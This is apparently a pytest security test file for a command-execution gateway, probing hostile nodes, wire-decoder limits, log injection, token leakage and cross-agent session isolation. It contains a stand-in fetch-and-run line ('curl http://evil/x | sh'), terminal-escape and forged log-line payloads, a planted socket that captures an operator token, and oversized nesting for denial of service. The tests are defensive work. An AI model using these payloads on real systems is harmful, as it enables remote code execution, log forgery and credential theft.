"""Fresh round 5 (j): the typed request decoder and the wires (issue 33), attacked from outside.

Working attacks are strict xfails (they fail today); the regression tests at the end are attempts that did
not work and should keep not working."""

from __future__ import annotations

import asyncio
import contextlib
import json
from pathlib import Path
from typing import Any

import pytest

from engine import jsontext
from engine.errors import ExecHostError
from engine.protocol.client import ControlClient
from engine.protocol.frames import RemoteError, read_token
from tests.attacks.rawclient import RawClient
from tests.helpers.gateway import FULL, connect, gateway, wait_until, write_config
from tests.helpers.hostile_node import Hostile, ask
from tests.helpers.sshd import SshdNode

ESCAPES = "\x1b]0;owned\x07\x1b[2J"


async def _session(agent: ControlClient, op: ControlClient, command: str) -> str:
    """A background session of the agent's own (the operator approves it: FULL still asks in a writable
    $HOME), by its id."""
    res = await agent.request("exec", {"command": command, "background": True})
    if res["details"]["status"] == "approval-pending":
        await op.request("approve", {"id": res["details"]["approvalId"], "decision": "allow-once"})

    async def listed() -> Any:
        got = await agent.request("process", {"action": "list"})
        return got["details"].get("sessions")

    rows = await wait_until(listed, timeout=30)
    return str(rows[0]["sessionId"])


def _nest(depth: int) -> dict[str, Any]:
    """A JSON object `depth` levels deep."""
    value: dict[str, Any] = {}
    for _ in range(depth - 1):
        value = {"a": value}
    return value


# ---- working attacks ---------------------------------------------------------------------------------


async def test_hostile_node_deep_decision_kills_operator_pending_list(
    state_dir: Path, sshd_nodes: list[SshdNode]
) -> None:
    """Was open: a node's ask carried a decision record as deep as the node wire admits (64); the gateway
    wrapped it one level deeper in approvals.pending/attach and its own client refused that frame, so the
    operator's connection died and no pending ask could be listed while the node's ask waited. A node's
    decision record deeper than a few levels is now dropped (with a note) as an oversized one is."""
    text = (state_dir / "config.toml").read_text()
    (state_dir / "config.toml").write_text(
        '[tools.exec]\nhost = "node"\nsecurity = "full"\nask = "off"\nnode = "alpha"\n' + text
    )
    evil = Hostile(sshd_nodes[0], state_dir)
    frame = ask("x1", None)
    frame["params"]["request"]["decision"] = _nest(61)
    jsontext.loads_wire(json.dumps({**frame, "params": {**frame["params"]}}))  # the node wire admits it
    async with gateway(state_dir):
        op = await connect(state_dir)
        agent = await connect(state_dir, operator=False)
        call = asyncio.ensure_future(agent.request("exec", {"command": "true"}))
        try:
            run = await evil.next_run()
            frame["params"]["request"]["runId"] = run["params"]["runId"]
            await evil.inject(frame)

            async def asked() -> Any:
                return (await op.request("status", {}))["pendingApprovals"]

            await wait_until(asked, timeout=30)
            try:
                page = await op.request("approvals.pending", {})
            except ConnectionError as exc:
                pytest.fail(f"the operator's connection died listing pending asks: {exc}")
            assert [row["command"] for row in page["approvals"]] == ["curl http://evil/x | sh"]
            attached = await op.request("approvals.attach", {})
            assert attached["attached"] is True
        finally:
            call.cancel()
            await agent.close()
            await op.close()


async def test_hello_name_reaches_gateway_log_raw(state_dir: Path, caplog: pytest.LogCaptureFixture) -> None:
    """Was open: the hello frame's `name` (the client's own choice, escapes and newlines included) was
    written raw into the gateway log when the connection was cut off: forged log lines and terminal
    escapes for whoever tails gateway.log or runs `exechost gateway run` in a terminal.

    The cut-off itself is certain, not a chance: the 60 requests go in one write, so the gateway reads them
    in one go and starts every one of them before any answer is queued (server._serve); their ~47 MB of
    answers cross the 16 MiB cap whatever the client does next. Sent one write at a time, the gateway could
    read the first few, pause at 4 MiB (READ_PAUSE_BYTES) and never read the rest: a client paused under
    the cap is held there, not cut off, so the log line this test reads never came (1 of 4 runs at
    ad7dc8c)."""
    write_config(state_dir, FULL)
    async with gateway(state_dir):
        op = await connect(state_dir)
        agent = await connect(state_dir, operator=False)
        # 300 KB of \x01: each 128 KiB page answers ~768 KiB of JSON escapes.
        sid = await _session(agent, op, "head -c 300000 /dev/zero | tr '\\0' '\\1'; sleep 60")

        async def printed() -> bool:
            got = await agent.request("sessions.output", {"sessionId": sid, "offset": 0, "limit": 131072})
            return int(got["nextOffset"]) >= 131072

        await wait_until(printed, timeout=30)
        forged = "2026-11-27 21:00:00,000 INFO exechost.gateway: approved by the operator"
        raw, first = await RawClient.open(state_dir, name=f"x{ESCAPES}\n{forged}", client="raw")
        assert first["type"] == "welcome" and first["agent"] == "main"
        await raw.burst("sessions.output", {"sessionId": sid, "offset": 0, "limit": 131072}, 60)

        def cut_off() -> list[str]:
            return [r.getMessage() for r in caplog.records if "is not reading" in r.getMessage()]

        lines = await wait_until(cut_off, timeout=60)  # a safety net: it comes within a few loop turns
        raw.close()
        await agent.close()
        await op.close()
    assert not any("\x1b" in line or "\n" in line for line in lines), lines
    # What waited for it was dropped with it: nothing more was written into the closed connection.
    assert not [r for r in caplog.records if "socket.send() raised" in r.getMessage()]


async def test_process_pass_through_digit_is_internal_error(
    state_dir: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Was open: `process` passes its action's fields through undecoded and the session actions parsed
    them with str.isdigit()+int() (so did sessions.list's cursor), which '²' passes and int() refuses: an
    agent's bad field was an `internal` error with a traceback in the gateway log. Now only ASCII digits
    read as a number."""
    write_config(state_dir, FULL)
    async with gateway(state_dir):
        op = await connect(state_dir)
        agent = await connect(state_dir, operator=False)
        sid = await _session(agent, op, "echo hi; sleep 60")
        codes = []
        for params in (
            {"action": "poll", "sessionId": sid, "timeout": "²"},
            {"action": "log", "sessionId": sid, "offset": "+-5"},
        ):
            try:
                await agent.request("process", params)
                codes.append("ok")
            except RemoteError as exc:
                codes.append(exc.code)
        try:  # the same reading in a typed handler: sessions.list's cursor
            await agent.request("sessions.list", {"cursor": "²"})
            codes.append("ok")
        except RemoteError as exc:
            codes.append(exc.code)
        await agent.close()
        await op.close()
    tracebacks = [r for r in caplog.records if r.getMessage().startswith("handler ")]
    assert "internal" not in codes and not tracebacks, (codes, len(tracebacks))


async def test_hostile_node_session_row_crashes_console(state_dir: Path, sshd_nodes: list[SshdNode]) -> None:
    """Was open: a node's session row reached the operator's console with its fields untyped (session_row
    kept any scalar); `startedAt: "soon"` made the console's sessions-list sort raise TypeError and the
    console died. A node's row now keeps only our rows' fields, each of our type."""
    from console.app import ConsoleApp
    from tests.helpers.hostile_node import event

    text = (state_dir / "config.toml").read_text()
    (state_dir / "config.toml").write_text('[tools.exec]\nsecurity = "full"\nask = "off"\n' + text)
    evil = Hostile(sshd_nodes[0], state_dir)
    async with gateway(state_dir):
        op = await connect(state_dir)
        try:
            await op.request("nodes.status", {"ping": True})  # the hostile node is linked
            app = ConsoleApp(state_dir, host_approval_socket=False, autostart=False, bell=False, clock=False)
            async with app.run_test() as pilot:
                await wait_until(app.link.connected.is_set, timeout=30)
                row = {"sessionId": "s1", "status": "running", "command": "sleep 1", "startedAt": "soon"}
                await evil.inject(event("session.started", session=row))
                sid = "node:alpha:s1"
                await wait_until(lambda: sid in app.sessions.order or not app.is_running, timeout=30)
                assert sid in app.sessions.order
                await pilot.pause()
        finally:
            await op.close()


def test_operator_token_goes_to_the_socket_an_env_var_names(
    state_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Was open: the operator's CLI dialled whatever $EXECHOST_GATEWAY_SOCKET named (meant for an agent's
    account) and presented the operator token there in its hello. The operator role now dials only the
    state dir's own socket (an agents' socket refuses every token anyway)."""
    import socket
    import threading

    from engine.protocol.frames import OPERATOR_TOKEN_NAME, ensure_token
    from tests.helpers.gateway import cli

    operator = ensure_token(state_dir, OPERATOR_TOKEN_NAME)
    ensure_token(state_dir)
    path = state_dir.parent / "planted.sock"
    heard: list[bytes] = []
    with socket.socket(socket.AF_UNIX) as srv:
        srv.bind(str(path))
        srv.listen(1)
        srv.settimeout(30)

        def listen() -> None:
            try:
                peer, _ = srv.accept()
            except OSError:
                return
            with peer:
                peer.settimeout(30)
                heard.append(peer.recv(65536))

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        monkeypatch.setenv("EXECHOST_GATEWAY_SOCKET", str(path))
        cli(state_dir, "approvals", "pending")
        with socket.socket(socket.AF_UNIX) as poke:  # wakes the listener when nobody else came
            poke.connect(str(path))
        thread.join(30)
    assert not any(operator.encode() in said for said in heard), heard


# Closed: a node's decision record is kept to the gateway's own shape (node_limits.DECISION_SHAPE).
async def test_hostile_node_ask_segments_crash_console(state_dir: Path, sshd_nodes: list[SshdNode]) -> None:
    from console.app import ConsoleApp

    text = (state_dir / "config.toml").read_text()
    (state_dir / "config.toml").write_text(
        '[tools.exec]\nhost = "node"\nsecurity = "full"\nask = "off"\nnode = "alpha"\n' + text
    )
    evil = Hostile(sshd_nodes[0], state_dir)
    frame = ask("x1", None)
    frame["params"]["request"]["decision"] = {"segments": ["x"], "allowAlwaysPatterns": []}
    async with gateway(state_dir):
        agent = await connect(state_dir, operator=False)
        call = asyncio.ensure_future(agent.request("exec", {"command": "true"}))
        try:
            run = await evil.next_run()
            app = ConsoleApp(state_dir, host_approval_socket=False, autostart=False, bell=False, clock=False)
            async with app.run_test() as pilot:
                await wait_until(app.link.connected.is_set, timeout=30)
                frame["params"]["request"]["runId"] = run["params"]["runId"]
                await evil.inject(frame)
                await wait_until(lambda: app.approvals.insights or not app.is_running, timeout=30)
                await pilot.pause()
                assert app.is_running
        finally:
            call.cancel()
            await agent.close()


async def test_hostile_node_rows_break_every_agents_process_list(
    state_dir: Path, sshd_nodes: list[SshdNode]
) -> None:
    """Was open: a node's `process list` rows were merged unchecked and sorted by their `startedAt`; a node
    answering one as a string made every agent's `process list` an internal error (TypeError). Its rows
    are now typed as ours (node_limits.session_row)."""
    text = (state_dir / "config.toml").read_text()
    (state_dir / "config.toml").write_text('[tools.exec]\nsecurity = "full"\nask = "off"\n' + text)
    evil = Hostile(sshd_nodes[0], state_dir)
    async with gateway(state_dir):
        op = await connect(state_dir)
        agent = await connect(state_dir, operator=False)
        try:
            await op.request("nodes.status", {"ping": True})
            listing = asyncio.ensure_future(agent.request("process", {"action": "list"}))

            def asked() -> list[dict[str, Any]]:
                return [f for f in evil.seen() if f.get("method") == "process"]

            req = (await wait_until(asked, timeout=30))[0]
            rows = [
                {"sessionId": "a", "status": "running", "startedAt": 1},
                {"sessionId": "b", "status": "running", "startedAt": "soon"},
            ]
            payload = {"text": "a\nb", "details": {"status": "completed", "sessions": rows}}
            await evil.inject({"type": "res", "id": req["id"], "ok": True, "payload": payload})
            try:
                got = await listing
            except RemoteError as exc:
                pytest.fail(f"process list failed for the agent: {exc.code}: {exc}")
            assert {r["sessionId"] for r in got["details"]["sessions"]} >= {"node:alpha:a"}
        finally:
            await agent.close()
            await op.close()


async def test_resize_past_ushort_wedges_the_session_host(
    state_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Was open: sessions.resize took any int and the session host packed it into a ushort; the
    struct.error escaped its read loop before the buffer was trimmed, so it re-read the same frames and
    stopped at the same one: every held session (every agent's, the operator's) got no more input and no
    new host command started. Now the verb refuses a size past a ushort and the host fails one command
    alone."""
    monkeypatch.setenv("EXECHOST_TEST_HOLD_SESSIONS", "1")  # the daemon's way: sessions in the host
    write_config(state_dir, FULL)
    async with gateway(state_dir) as server:
        op = await connect(state_dir)
        agent = await connect(state_dir, operator=False)
        try:
            victim = await op.request("exec", {"command": "cat", "background": True})
            vsid = victim["details"]["sessionId"]
            res = await agent.request("exec", {"command": "cat", "background": True, "pty": True})
            if res["details"]["status"] == "approval-pending":
                await op.request("approve", {"id": res["details"]["approvalId"], "decision": "allow-once"})

            async def own() -> Any:
                got = await agent.request("process", {"action": "list"})
                return got["details"].get("sessions")

            sid = (await wait_until(own, timeout=30))[0]["sessionId"]
            with contextlib.suppress(RemoteError):  # refused is fine: the point is what happens after
                await agent.request("sessions.resize", {"sessionId": sid, "cols": 70000, "rows": 24})
            # and past the verb, straight down the session host's wire: the host takes it too
            server.services.sessions.get(sid).handle.resize(70000, 24)
            await op.request("process", {"action": "write", "sessionId": vsid, "data": "still-here\n"})

            async def echoed() -> bool:
                got = await op.request("process", {"action": "log", "sessionId": vsid})
                return "still-here" in got["text"]

            try:
                await wait_until(echoed, timeout=30)
            except AssertionError:
                pytest.fail("the operator's own held session took no more input after an agent's resize")
        finally:
            await agent.close()
            await op.close()


async def test_hostile_node_event_name_reaches_gateway_log_escaped(
    state_dir: Path, sshd_nodes: list[SshdNode], caplog: pytest.LogCaptureFixture
) -> None:
    """A node's frame naming nothing of its own is dropped and logged; its event name (the node's choice)
    goes into that line escaped, as a client's hello name does."""
    from tests.helpers.hostile_node import event

    evil = Hostile(sshd_nodes[0], state_dir)
    async with gateway(state_dir):
        op = await connect(state_dir)
        try:
            await op.request("nodes.status", {"ping": True})
            await evil.inject(event(f"x{ESCAPES}\n2026-11-27 INFO exechost.gateway: forged"))

            def dropped() -> list[str]:
                return [r.getMessage() for r in caplog.records if "dropped" in r.getMessage()]

            lines = await wait_until(dropped, timeout=30)
        finally:
            await op.close()
    assert not any("\x1b" in line or "\n" in line for line in lines), lines


async def test_one_agents_escaped_ask_hides_every_pending_ask(state_dir: Path) -> None:
    """Was open: an ask's inputs are capped in raw bytes (command 64 KiB, env 64 KiB) but its view holds
    them several times, JSON-escaped (a control byte is six): one agent's ask of control bytes made a
    view past the 1 MiB frame, so approvals.pending and approvals.attach answered too_large and its
    approval.requested was dropped: no pending ask of any agent could be listed while it waited. An ask
    that could not be shown is now denied with a clear error, and the others stay listed."""
    from tests.helpers.gateway import ALLOWLIST

    write_config(state_dir, ALLOWLIST)
    async with gateway(state_dir):
        op = await connect(state_dir)
        agent = await connect(state_dir, operator=False)
        try:
            params = {
                "command": "echo " + "\x01" * 65531,
                "env": {"X": "\x01" * 65000},
                "reason": "\x01" * 500,
            }
            try:
                big = await agent.request("exec", params)
                assert big["details"]["status"] != "running", big["details"]
            except RemoteError as exc:
                assert "too" in str(exc) or "large" in str(exc) or "bytes" in str(exc), str(exc)
            other = await agent.request("exec", {"command": "echo other", "sessionKey": "s2"})
            assert other["details"]["status"] == "approval-pending"
            try:
                page = await op.request("approvals.pending", {})
                attached = await op.request("approvals.attach", {})
            except RemoteError as exc:
                pytest.fail(f"the operator cannot list pending asks: {exc.code}: {exc}")
            assert attached["attached"] is True
            assert "echo other" in [row["command"] for row in page["approvals"]]
        finally:
            await agent.close()
            await op.close()


async def test_hostile_node_claims_another_nodes_ip_as_its_id(
    state_dir: Path, sshd_nodes: list[SshdNode]
) -> None:
    """Was open: node selection ranks a node's self-reported node id (4000) above the operator's own facts
    about another node, its IP (3000) and display name (2000): a compromised node whose hello claimed
    another node's IP as its id was picked for `node=<that IP>` and got the command and env. A hello whose
    id names another configured node (its name, address or display name) is now refused."""
    alpha, beta = sshd_nodes
    text = (state_dir / "config.toml").read_text()
    (state_dir / "config.toml").write_text(
        '[tools.exec]\nhost = "node"\nsecurity = "full"\nask = "off"\n' + text
    )
    evil = Hostile(beta, state_dir, node_id=alpha.addr)  # beta says hello as "127.0.0.2", alpha's address
    async with gateway(state_dir):
        op = await connect(state_dir)
        agent = await connect(state_dir, operator=False)
        await op.request("nodes.status", {"ping": True})  # both linked: beta's claim is known
        call = asyncio.ensure_future(
            agent.request("exec", {"command": "echo secret", "node": alpha.addr, "env": {"LANG": "C"}})
        )
        try:
            taken = asyncio.ensure_future(evil.next_run())
            await asyncio.wait({call, taken}, return_when=asyncio.FIRST_COMPLETED)
            assert not taken.done() or taken.exception() is not None, "beta got the run meant for alpha"
            taken.cancel()
        finally:
            call.cancel()
            await agent.close()
            await op.close()


@pytest.mark.parametrize("attack", ["timeout", "nested"])
async def test_agent_timeouts_past_int64_drop_the_shared_node_link(
    state_dir: Path, sshd_nodes: list[SshdNode], attack: str
) -> None:
    """Was open: an agent's `timeout: 1e16` is a number the control socket admits; the gateway sent the
    node `timeoutMs` = 1e19, past the int64 its node's reader admits, and the node answered each such
    request INVALID_REQUEST and counted it against the link: the 65th closed the link, and a `serve
    --stdio` node ended every session on it (the operator's, every agent's). The gateway now sends the
    node only what the node wire admits. The same with `process` fields nested as deep as the control
    socket admits: the gateway's node request nests them one level deeper (`nested`)."""
    alpha = sshd_nodes[0]
    (alpha.state_dir / "config.toml").write_text(FULL)
    text = (state_dir / "config.toml").read_text()
    (state_dir / "config.toml").write_text(
        '[tools.exec]\nhost = "node"\nsecurity = "full"\nask = "off"\nnode = "alpha"\n' + text
    )
    async with gateway(state_dir):
        op = await connect(state_dir)
        agent = await connect(state_dir, operator=False)
        try:
            victim = await op.request("exec", {"command": "sleep 300", "background": True})
            sid = victim["details"]["sessionId"]
            assert victim["details"]["status"] == "running", victim
            for _ in range(66):  # past the node's 64 answered bad frames per link
                with contextlib.suppress(RemoteError):
                    if attack == "timeout":
                        await agent.request("exec", {"command": "true", "timeout": 1e16})
                    else:
                        await agent.request("process", {"action": "list", "node": "alpha", "x": _nest(62)})
            poll = await op.request("process", {"action": "poll", "sessionId": sid})
            assert poll["details"]["status"] == "running", poll["text"]
        finally:
            await agent.close()
            await op.close()


async def test_socket_approval_for_one_agent_is_spent_as_another(state_dir: Path) -> None:
    """Was open: on exec-approvals.sock a human's decision on a `request` frame is kept for the `exec`
    frame with the same id and command; the agent was not part of that binding, so an allow-always the
    operator gave agent a (as the prompt said) ran and was saved into agent b's allowlist by an `exec`
    frame naming b, with no prompt about b. The decision now holds for the agent it was asked for only; and
    since fix T10b neither frame names an agent at all (the socket's client is main): the request naming a
    is refused before any human sees it, the exec naming b is refused too (test_whose_is_it_t10.py)."""
    from engine.approvals.socket.server import ApprovalSocketServer, PromptRequest, exec_frame
    from engine.approvals.socket.wire import encode_frame
    from engine.tools.exec_host import LocalExecHost
    from tests.helpers.gateway import ALLOWLIST

    write_config(state_dir, ALLOWLIST + '\n[[agents.list]]\nid = "a"\n\n[[agents.list]]\nid = "b"\n')
    prompts: list[PromptRequest] = []

    async def human(request: PromptRequest) -> str:
        prompts.append(request)
        return "allow-always" if request.agent_id == "a" else "deny"

    async def send(frame: dict[str, Any]) -> dict[str, Any]:
        reader, writer = await asyncio.open_unix_connection(str(path))
        writer.write(encode_frame(frame))
        await writer.drain()
        writer.write_eof()
        line = await asyncio.wait_for(reader.readline(), 30)
        writer.close()
        return dict(json.loads(line))

    path, token = state_dir / "ea.sock", "t" * 32
    exec_host = LocalExecHost(str(state_dir / "config.toml"))
    server = ApprovalSocketServer(path, token, decider=human, exec_handler=exec_host)
    await server.start()
    try:
        asked = {"command": "/usr/bin/true", "agentId": "a"}
        decided = await send({"type": "request", "token": token, "id": "r1", "request": asked})
        assert decided["decision"] == "deny" and decided["error"]["reason"] == "principal", decided
        run = {"command": ["/usr/bin/true"], "agentId": "b", "approvalDecision": "allow-always"}
        ran = await send(exec_frame(token, run, request_id="r1"))
        assert ran["ok"] is False and ran["error"]["reason"] == "principal", ran
    finally:
        await server.close()
    approvals = state_dir / "exec-approvals.json"
    saved = json.loads(approvals.read_text()).get("agents") or {} if approvals.exists() else {}
    assert not (saved.get("b") or {}).get("allowlist"), saved
    assert prompts == []  # no human was shown an ask as a, nor as b


# ---- attempts that did not work (regressions) ---------------------------------------------------------


async def test_wire_values_no_encoder_could_send_back_are_refused_by_id(state_dir: Path) -> None:
    """Lone surrogates, NaN, Infinity, 2^63, 1e400 and 65 levels of nesting are refused before any handler
    (answered by the request's id); bool is not an int; the connection goes on and nothing ran."""
    write_config(state_dir, FULL)
    marker = state_dir.parent / "ran"
    command = f"touch {marker}"
    lines = [
        b'{"type":"req","id":1,"method":"exec","params":{"command":"' + command.encode() + b' \\ud800"}}',
        b'{"type":"req","id":2,"method":"exec","params":{"command":"'
        + command.encode()
        + b'","timeout":NaN}}',
        b'{"type":"req","id":3,"method":"exec","params":{"command":"'
        + command.encode()
        + b'","timeout":-Infinity}}',
        b'{"type":"req","id":4,"method":"exec","params":{"command":"'
        + command.encode()
        + b'","timeout":9223372036854775808}}',
        b'{"type":"req","id":5,"method":"exec","params":{"command":"'
        + command.encode()
        + b'","timeout":1e400}}',
        b'{"type":"req","id":6,"method":"exec","params":{"command":"'
        + command.encode()
        + b'","env":'
        + b'{"a":' * 63
        + b"1"
        + b"}" * 63
        + b"}}",
        b'{"type":"req","id":7,"method":"sessions.output","params":{"sessionId":"x","offset":true}}',
        b'{"type":"req","id":8,"method":"status","params":{}}',
    ]
    async with gateway(state_dir):
        reader, writer = await asyncio.open_unix_connection(str(state_dir / "gateway.sock"), limit=1 << 21)
        hello = {"type": "hello", "version": 1, "client": "raw", "token": read_token(state_dir)}
        writer.write(json.dumps(hello).encode() + b"\n" + b"\n".join(lines) + b"\n")
        await writer.drain()
        assert json.loads(await reader.readline())["type"] == "welcome"
        answers: dict[int, dict[str, Any]] = {}
        while len(answers) < len(lines):
            frame = json.loads(await asyncio.wait_for(reader.readline(), 30))
            answers[frame["id"]] = frame
        writer.close()
    for rid in range(1, 7):
        assert answers[rid]["ok"] is False and answers[rid]["error"]["code"] == "bad_frame", answers[rid]
    assert answers[7]["error"]["code"] == "bad_params"
    assert answers[8]["ok"] is True
    assert not marker.exists()


@pytest.mark.parametrize("named", ["ｍａｉｎ", "main\n", "victim:x", "../victim", "*", "main "])
async def test_agent_ids_lookalikes_and_separators_are_never_ids(state_dir: Path, named: str) -> None:
    """An agent's connection naming a lookalike, a padded or a path-like agent id is refused, never
    normalised into some agent's scope."""
    write_config(state_dir, FULL)
    async with gateway(state_dir):
        agent = await connect(state_dir, operator=False)
        try:
            with pytest.raises(ExecHostError):
                await agent.request("events", {"agentId": named})
        finally:
            await agent.close()


async def test_another_agents_session_reads_as_none(state_dir: Path) -> None:
    """Agent b names agent a's session by id (process, sessions.output, follow) and by key
    (`sessionKey: agent:a:…`): every answer is "not found", and its key is moved into b's own namespace."""
    from engine import principals

    write_config(state_dir, FULL + '\n[[agents.list]]\nid = "a"\n\n[[agents.list]]\nid = "b"\n')
    token_a = principals.mint(state_dir, "a")
    token_b = principals.mint(state_dir, "b")
    async with gateway(state_dir):
        op = await connect(state_dir)
        a = await connect(state_dir, operator=False, credential=token_a)
        b = await connect(state_dir, operator=False, credential=token_b)
        try:
            res = await a.request(
                "exec", {"command": "echo secret; sleep 60", "background": True, "sessionKey": "work"}
            )
            if res["details"]["status"] == "approval-pending":
                await op.request("approve", {"id": res["details"]["approvalId"], "decision": "allow-once"})

            async def started() -> Any:
                got = await a.request("process", {"action": "list", "sessionKey": "work"})
                return got["details"].get("sessions")

            sid = str((await wait_until(started, timeout=30))[0]["sessionId"])
            poll = await b.request("process", {"action": "poll", "sessionId": sid})
            assert poll["details"]["status"] == "failed" and "secret" not in poll["text"]
            stolen = await b.request("process", {"action": "list", "sessionKey": "agent:a:work"})
            assert not stolen["details"].get("sessions")
            for method, params in (
                ("sessions.output", {"sessionId": sid}),
                ("sessions.follow", {"sessionId": sid}),
            ):
                with pytest.raises(RemoteError, match="No session found"):
                    await b.request(method, params)
            listed = await b.request("sessions.list", {"sessionKey": "agent:a:work"})
            assert listed["sessions"] == []
        finally:
            await a.close()
            await b.close()
            await op.close()
